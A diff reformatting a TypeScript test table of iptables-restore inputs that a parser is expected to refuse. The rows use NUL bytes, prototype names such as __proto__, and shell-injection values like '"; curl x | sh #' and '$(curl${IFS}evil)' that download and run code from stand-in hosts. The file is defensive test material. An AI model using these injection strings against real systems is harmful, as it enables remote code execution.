@@ -40,7 +40,13 @@ export const REFUSED: readonly RefusedText[] = [
   row(7, "NUL in a chain's name", filter(":a\0b - [0:0]"), [5, 3], "NUL"),
   row(7, "NUL behind a table's name", "*filter\0\n-A INPUT -j DROP\nCOMMIT\n", [1, 8], "NUL"),
   row(7, "NUL behind COMMIT", "*filter\n-A INPUT -j DROP\nCOMMIT\0\n", [3, 7], "NUL"),
-  row(7, "NUL in a listing", "Chain INPUT (policy ACCEPT)\ntarget prot opt source destination\nDR\0OP all -- 0.0.0.0/0 0.0.0.0/0\n", [3, 3], "NUL"),
+  row(
+    7,
+    "NUL in a listing",
+    "Chain INPUT (policy ACCEPT)\ntarget prot opt source destination\nDR\0OP all -- 0.0.0.0/0 0.0.0.0/0\n",
+    [3, 3],
+    "NUL",
+  ),
   row(9, "a bad second table", filter("-A INPUT -j DROP") + "*nat\n-A PREROUTING -j BOGUS\nCOMMIT\n", [8, 15], "BOGUS"),
   row(9, "a table that nobody has", filter("-A INPUT -j DROP") + "*natt\n-A PREROUTING -j DROP\nCOMMIT\n", [7, 1], "did you mean nat?"),
   row(10, "a missing COMMIT", "*filter\n-A INPUT -j DROP\n", [3, 1], "COMMIT expected"),
@@ -63,7 +69,13 @@ export const REFUSED: readonly RefusedText[] = [
   row(25, "a match named __proto__", filter("-A INPUT -m __proto__ -j DROP"), [5, 10], "Couldn't load match `__proto__'"),
   row(25, "a target named constructor", filter("-A INPUT -j constructor"), [5, 10], "constructor"),
   row(25, "an option named __proto__", filter("-A INPUT --__proto__ 1"), [5, 10], 'unknown option "--__proto__"'),
-  row(25, "an option of a match named constructor", filter("-A INPUT -p tcp -m tcp --constructor 1"), [5, 24], 'unknown option "--constructor"'),
+  row(
+    25,
+    "an option of a match named constructor",
+    filter("-A INPUT -p tcp -m tcp --constructor 1"),
+    [5, 24],
+    'unknown option "--constructor"',
+  ),
   row(25, "a protocol named toString", filter("-A INPUT -p toString"), [5, 10], "unknown protocol"),
   row(25, "a service named constructor", filter("-A INPUT -p tcp --dport constructor"), [5, 17], "constructor"),
   row(25, "an ICMP type named __proto__", filter("-A INPUT -p icmp --icmp-type __proto__"), [5, 18], "__proto__"),
@@ -72,12 +84,22 @@ export const REFUSED: readonly RefusedText[] = [
   row(25, "a policy for a chain named __proto__", "*filter\n:__proto__ ACCEPT [0:0]\nCOMMIT\n", [2, 12], "Bad built-in chain name"),
   row(26, "a shell's command in an address", filter('-A INPUT -s "8.8.8.8\\"; curl x | sh #" -j DROP'), [5, 10], "not found"),
   row(26, "the same without its first quote", filter('-A INPUT -s 8.8.8.8"; curl x | sh # -j DROP'), [5, 20], "unclosed quote"),
-  row(26, "a shell's command in an interface's name", filter("-A INPUT -i $(curl${IFS}evil) -j DROP"), [5, 10], "must be shorter than IFNAMSIZ"),
+  row(
+    26,
+    "a shell's command in an interface's name",
+    filter("-A INPUT -i $(curl${IFS}evil) -j DROP"),
+    [5, 10],
+    "must be shorter than IFNAMSIZ",
+  ),
 ];
 
 function ringOf(chains: number): string {
   const names = Array.from({ length: chains }, (_, i) => `c${i}`);
-  return filter(...names.map(name => `:${name} - [0:0]`), "-A INPUT -j c0", ...names.map((name, i) => `-A ${name} -j c${(i + 1) % chains}`));
+  return filter(
+    ...names.map(name => `:${name} - [0:0]`),
+    "-A INPUT -j c0",
+    ...names.map((name, i) => `-A ${name} -j c${(i + 1) % chains}`),
+  );
 }
 
 function listOf(addresses: number): string {
